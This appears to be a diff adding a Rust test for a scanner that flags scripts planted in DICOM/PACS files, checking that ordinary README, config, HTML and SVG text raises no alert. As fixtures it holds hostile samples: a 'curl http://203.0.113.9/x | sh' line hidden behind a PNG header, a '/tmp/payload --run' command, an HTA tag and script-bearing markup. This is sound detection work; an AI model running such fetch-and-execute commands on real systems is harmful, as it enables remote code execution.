@@ -646,3 +646,107 @@ fn a_java_class_in_an_element_is_confirmed_as_the_jvm_reads_it() {
         "broken class"
     );
 }
+
+fn alerts(inspection: &Inspection) -> Vec<String> {
+    inspection
+        .observations
+        .iter()
+        .filter(|o| o.severity == Severity::Alert)
+        .map(|o| o.detail.clone())
+        .collect()
+}
+
+/// Review finding (s5-r10): text files that sit in PACS trees and home directories were
+/// alerts: a README's fenced ```sh block (dash runs the backquoted `sh`), a docstring's
+/// `python -I`, a path at the start of a line of an `ld.so.conf` or a README ("sh runs
+/// /usr/local/lib"), a plain HTML page or SVG drawing. Nothing in them runs unless someone
+/// executes documentation; they are the not-DICOM warning, with what sh would do named.
+#[test]
+fn documentation_and_configuration_text_is_no_alert() {
+    let mut texts: Vec<(String, Vec<u8>)> = vec![
+        (
+            "README.md".into(),
+            b"# Tools\n\n```sh\npip install pydicom\n```\n\nRun `python3 -m tool`.\n".to_vec(),
+        ),
+        (
+            "module.py".into(),
+            b"\"\"\"\n    Self-updating data.\n\n    Run with `python -I` to update.\n\"\"\"\nX = 1\n"
+                .to_vec(),
+        ),
+        (
+            "notes.txt".into(),
+            b"Notes\n\n/usr/share/fonts\nholds the fonts; see\n/usr/local/share/ca-certificates.\n"
+                .to_vec(),
+        ),
+        ("page.html".into(), b"<html><body><p>report</p></body></html>\n".to_vec()),
+        (
+            "logo.svg".into(),
+            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>"
+                .to_vec(),
+        ),
+    ];
+    // Real files of this machine that were alerts.
+    for real in [
+        "/etc/ld.so.conf.d/libc.conf",
+        "/usr/share/doc/ca-certificates/README.Debian",
+    ] {
+        if let Ok(bytes) = std::fs::read(real) {
+            texts.push((real.into(), bytes));
+        }
+    }
+    for (name, bytes) in &texts {
+        let inspection = inspect(bytes);
+        assert!(alerts(&inspection).is_empty(), "{name}: {inspection:?}");
+        assert_eq!(
+            inspection.observations[0].kind,
+            FindingKind::NotDicom,
+            "{name}"
+        );
+    }
+    // What the README says dash runs, it does run: the warning names it.
+    assert!(dash(b"```sh -c 'echo echo RAN'\n```\n").contains("RAN"));
+    let readme = inspect(&texts[0].1);
+    assert!(
+        readme.observations[0].detail.contains("sh would run"),
+        "{readme:?}"
+    );
+    // Named as DICOM where loaders look, the same text is a planted script: an alert.
+    for name in ["IM0001.DCM", "1.2.840.113619.2.55.3.1", "x.ima"] {
+        let named = inspect(&texts[0].1).named(name);
+        assert!(!alerts(&named).is_empty(), "{name}: {named:?}");
+    }
+    assert!(alerts(&inspect(&texts[0].1).named("README.md")).is_empty());
+    // An HTA asks mshta for full trust: an alert even without script.
+    let hta = b"<html><head><hta:application id=x/></head><body>scan</body></html>";
+    assert!(!alerts(&inspect(hta)).is_empty());
+    // A data path at the start of a line is no command: dash cannot run it.
+    assert!(!dash(b"/usr/share/doc\n/usr/local/lib\n").contains("RAN"));
+    assert_eq!(find_shell_command(b"x\n/usr/share/fonts\n"), None);
+    assert_eq!(
+        find_shell_command(b"x\n/usr/lib/x86_64-linux-gnu/libfakeroot\n"),
+        None
+    );
+    assert_eq!(
+        find_shell_command(b"x\nsee /usr/local/share/ca-certificates.\n"),
+        None
+    );
+    // Programs by path still count, and so does every command behind a binary header,
+    // in a file that is not DICOM as in one that is; markup with script stays an alert.
+    for command in [
+        &b"x\n/tmp/payload --run\n"[..],
+        b"x\n/usr/local/bin/tool -x\n",
+        b"x\n./payload\n",
+        b"x\n/opt/pacs/bin/export --all\n",
+    ] {
+        assert!(find_shell_command(command).is_some(), "{command:?}");
+    }
+    let mut binary = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\n".to_vec();
+    binary.extend_from_slice(b"curl http://203.0.113.9/x | sh\n");
+    assert!(!alerts(&inspect(&binary)).is_empty());
+    for markup in [
+        &b"<html><body onload=\"alert(1)\"></body></html>"[..],
+        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
+    ] {
+        assert!(!alerts(&inspect(markup)).is_empty(), "{markup:?}");
+    }
+}
